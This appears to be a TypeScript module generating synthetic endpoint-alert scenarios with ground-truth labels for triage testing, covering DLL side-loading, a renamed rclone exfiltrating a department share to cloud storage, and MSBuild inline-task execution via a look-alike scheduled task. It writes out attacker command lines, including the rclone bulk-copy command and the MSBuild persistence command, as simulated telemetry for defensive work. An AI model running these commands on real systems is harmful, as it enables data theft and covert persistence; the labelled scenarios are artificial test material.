import { oneOff } from "./catalog.js";
import { attackerIp, payloadRep } from "./malicious.js";
import { regularUser } from "./org.js";
import { containment, place, type Scenario } from "./scenario.js";

/**
 * Intrusions that avoid the loud patterns: a signed binary hijacked through its DLL search order,
 * a renamed sync tool emptying a share, MSBuild compiling a payload in memory. Each is caught by
 * reading the context (where the binary sits, what it loaded, what it sent), not by a signature.
 */

export const dllSideload: Scenario = {
  id: "tp_dll_sideload",
  setup: (rng, ho) => place(rng, "workstation", regularUser(rng), ho),
  build(d) {
    const { rng, cat } = d;
    const dir = `C:\\Users\\${d.user.account.split("\\")[1]}\\AppData\\Local\\Temp\\${rng.hex(6)}`;
    const host = { ...cat.bin("syncapp"), image: `${dir}\\QuillnoteSetup.exe` };
    const dll = oneOff(rng, `${dir}\\version.dll`);
    const ex = d.proc(cat.bin("explorer"), "C:\\Windows\\Explorer.EXE", { at: -rng.int(1800, 20000) });
    const p = d.proc(host, `"${host.image}"`, { parent: ex, dir: `${dir}\\` });
    const ids = d.tree(p, []);
    d.rep(host);
    payloadRep(d, dll, "Backdoor.Win64.Sideloader");
    d.file(ex, dll.image, { sha256: dll.sha256, size: rng.int(90000, 400000), at: -rng.int(20, 90) });
    const load = d.file(p, dll.image, { action: "image_loaded", sha256: dll.sha256, at: 1 });
    const c2 = attackerIp(d, "c2");
    const beacon = d.net(p, { ip: c2.ip, port: 443, domain: c2.domain, sent: rng.int(400, 3000), at: rng.int(10, 60) });
    d.setAlert({
      title: "Signed binary loaded an unsigned DLL from a user temp folder",
      rule: "Defense evasion: DLL search-order hijacking",
      severity: "medium",
      proc: p,
      description:
        "A validly signed executable running from %TEMP% loaded version.dll from its own folder instead of System32.",
    });
    d.setLabel(
      "true_positive",
      true,
      containment(d, "quarantine_file", "block_ip"),
      [ids.get(p)!, load, beacon],
      [40, 100],
      "Legitimate signed installer copied to a temp folder next to a malicious version.dll (side-loading); the process then beaconed to an unknown hosting address.",
    );
  },
};

export const rcloneExfil: Scenario = {
  id: "tp_rclone_exfil",
  setup: (rng, ho) => place(rng, rng.pick(["file_server", "file_server", "workstation"]), regularUser(rng), ho),
  build(d) {
    const { rng, cat } = d;
    const tool = oneOff(rng, `C:\\ProgramData\\${rng.pick(["svcsync", "winsync", "msupdate"])}.exe`);
    const share = `D:\\Shares\\${rng.pick(["Finance", "HR", "Legal", "Projects"])}`;
    const ex = d.proc(cat.bin("explorer"), "C:\\Windows\\Explorer.EXE", { at: -rng.int(1800, 9000) });
    const cmd = d.proc(cat.bin("cmd"), '"C:\\Windows\\system32\\cmd.exe" ', {
      parent: ex,
      integrity: "High",
      at: -rng.int(60, 600),
    });
    const p = d.proc(
      tool,
      `${tool.image.split("\\").pop()} copy ${share} remote:bkp-${rng.hex(4)} --config C:\\ProgramData\\rc.conf --transfers 16 --ignore-existing -q`,
      { parent: cmd, integrity: "High" },
    );
    const ids = d.tree(p, []);
    d.rep(tool, {
      verdict: "suspicious",
      positives: rng.int(2, 6),
      names: ["RiskTool.Rclone"],
      prevalence: 1,
      firstSeen: d.at(-rng.int(200, 900)),
    });
    d.file(cmd, "C:\\ProgramData\\rc.conf", { size: rng.int(300, 900), at: -rng.int(60, 120) });
    const up = d.net(p, {
      ip: rng.ipv4Public(),
      port: 443,
      domain: `s3.storage-${rng.hex(4)}.example.net`,
      sent: rng.int(2, 18) * 1073741824,
      received: rng.int(1, 9) * 1048576,
      at: rng.int(60, 1800),
    });
    d.setAlert({
      title: "Large outbound transfer by a rare binary",
      rule: "Exfiltration: bulk upload by low-prevalence process",
      severity: "high",
      proc: p,
      description: `A binary first seen today uploaded gigabytes from ${share} to cloud storage.`,
    });
    d.setLabel(
      "true_positive",
      true,
      containment(d, "block_ip", "kill_process", "force_password_reset"),
      [ids.get(p)!, up],
      [45, 120],
      "Renamed rclone copying a department share to attacker cloud storage from an interactive session; data exfiltration.",
    );
  },
};

export const msbuildInline: Scenario = {
  id: "tp_msbuild_inline",
  setup: (rng, ho) => place(rng, "workstation", regularUser(rng), ho),
  build(d) {
    const { rng, cat } = d;
    const proj = `C:\\Users\\Public\\Libraries\\${rng.pick(["cache", "sync", "index"])}.xml`;
    const task = rng.pick([
      "\\Microsoft\\Windows\\NetTrace\\GatherNetworkInfo2",
      "\\Microsoft\\Office\\OfficeTelemetryAgentLogOn3",
      "\\AppleSoftwareUpdate",
    ]);
    const sched = d.proc(cat.bin("svchost"), "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", {
      user: "NT AUTHORITY\\SYSTEM",
      at: -86400 * 4,
    });
    const p = d.proc(
      cat.bin("msbuildfw"),
      `"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe" ${proj} /nologo /noconsolelogger`,
      { parent: sched },
    );
    const ids = d.tree(p, []);
    d.rep(cat.bin("msbuildfw"));
    const ps = d.proc(cat.bin("powershell"), "powershell.exe", { at: -86400 * rng.int(1, 3) });
    d.file(ps, proj, { size: rng.int(40000, 160000), at: -86400 * rng.int(1, 3) });
    const pers = d.persist({
      mechanism: "scheduled_task",
      name: task,
      location: `C:\\Windows\\System32\\Tasks${task}`,
      command: `C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe ${proj}`,
      by: ps,
      prevalence: 1,
      firstSeen: d.at(-86400 * rng.int(1, 3)),
    });
    const c2 = attackerIp(d, "c2");
    const beacon = d.net(p, { ip: c2.ip, port: 443, domain: c2.domain, sent: rng.int(500, 4000), at: rng.int(5, 40) });
    d.setAlert({
      title: "MSBuild executed a project file from a user-writable folder",
      rule: "Defense evasion: MSBuild inline task execution",
      severity: "medium",
      proc: p,
      description:
        "MSBuild.exe, started by the task scheduler, built a project from C:\\Users\\Public and opened an outbound connection.",
    });
    d.setLabel(
      "true_positive",
      true,
      containment(d, "kill_process", "block_ip"),
      [ids.get(p)!, pers, beacon],
      [40, 100],
      "MSBuild inline-task loader launched by a look-alike scheduled task on a non-developer workstation, beaconing out; signed binary, malicious use.",
    );
  },
};

export const STEALTHY = [dllSideload, rcloneExfil, msbuildInline];
